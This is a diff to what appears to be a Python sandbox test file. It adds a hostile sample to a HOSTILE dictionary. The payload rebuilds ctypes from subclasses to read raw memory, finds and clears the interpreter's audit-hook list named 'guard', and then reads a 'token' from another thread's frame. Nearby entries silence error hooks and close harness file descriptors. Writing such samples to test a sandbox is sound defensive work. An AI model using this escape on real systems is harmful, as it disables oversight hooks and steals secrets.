@@ -72,6 +72,69 @@ def _forge_from_subclasses():
 """
 )
 
+# The guard's own list: the heap is scanned for a one-item list holding a function named
+# "guard" (the interpreter's audit-hook list), which is cleared; then the vault thread's frame
+# is read with sys._current_frames and its token written to its result fd.
+_CLEAR_HOOKS = """
+def _clear_hooks_then_read_frames():
+    import os, re, sys, types
+    found, seen, todo = {}, set(), [object]
+    while todo:
+        for sub in type.__subclasses__(todo.pop()):
+            if id(sub) not in seen:
+                seen.add(id(sub))
+                todo.append(sub)
+                if sub.__module__ == "_ctypes":
+                    found[sub.__name__] = sub
+    VP = type("VP", (found["_SimpleCData"],), {"_type_": "P"})
+    PyObj = type("PyObj", (found["_SimpleCData"],), {"_type_": "O"})
+    C = type("C", (found["_SimpleCData"],), {"_type_": "c"})
+    def chunk_union(size):
+        chunk = type("Chunk", (found["Array"],), {"_type_": C, "_length_": size})
+        pointer = type("P", (found["_Pointer"],), {"_type_": chunk})
+        return type("U", (found["Union"],), {"_fields_": [("a", VP), ("b", pointer)]})
+    Big, Small = chunk_union(1 << 16), chunk_union(16)
+    ObjU = type("ObjU", (found["Union"],), {"_fields_": [("a", VP), ("o", PyObj)]})
+    r, w = os.pipe()
+    def read(union, address):
+        if address < 4096:
+            return b""
+        u = union()
+        u.a = address
+        try:
+            n = os.write(w, u.b[0])
+        except OSError:
+            return b""
+        data = b""
+        while len(data) < n:
+            data += os.read(r, n - len(data))
+        return data
+    def object_at(address):
+        u = ObjU()
+        u.a = address
+        return u.o
+    word = lambda data, i: int.from_bytes(data[i:i + 8], "little")
+    tag = re.compile(re.escape(id(list).to_bytes(8, "little") + (1).to_bytes(8, "little")))
+    center = id(sys) & ~0xFFFF
+    for base in range(center - (64 << 20), center + (64 << 20), 1 << 16):
+        data = read(Big, base)
+        for m in tag.finditer(data):
+            if m.start() < 8 or m.start() + 24 > len(data):
+                continue
+            item = word(read(Small, word(data, m.start() + 16)), 0)
+            if not item or word(read(Small, item), 8) != id(types.FunctionType):
+                continue
+            if object_at(item).__name__ == "guard":
+                object_at(base + m.start() - 8).clear()
+                for frame in sys._current_frames().values():
+                    while frame is not None:
+                        local = frame.f_locals
+                        if "token" in local and "result_fd" in local:
+                            os.write(local["result_fd"], local["token"] + b"\\n")
+                        frame = frame.f_back
+    return True
+"""
+
 _DAEMON = '[sys.executable, "-c", "import time; time.sleep(60)  # @MARKER@"]'
 
 HOSTILE: dict[str, str] = {
@@ -215,6 +278,7 @@ _forge(c_void_p, c_char, Array, POINTER, Union)"""
     return True
 """
     + _CTYPES_FROM_SUBCLASSES,
+    "raw_memory_clears_audit_hooks": _module(_CLEAR_HOOKS + "_clear_hooks_then_read_frames()"),
     "silence_failures": _module("import sys\nsys.unraisablehook = lambda u: None"),
     "close_harness_fds": _module("import os\nos.closerange(3, 256)"),
     # --- resource abuse ---
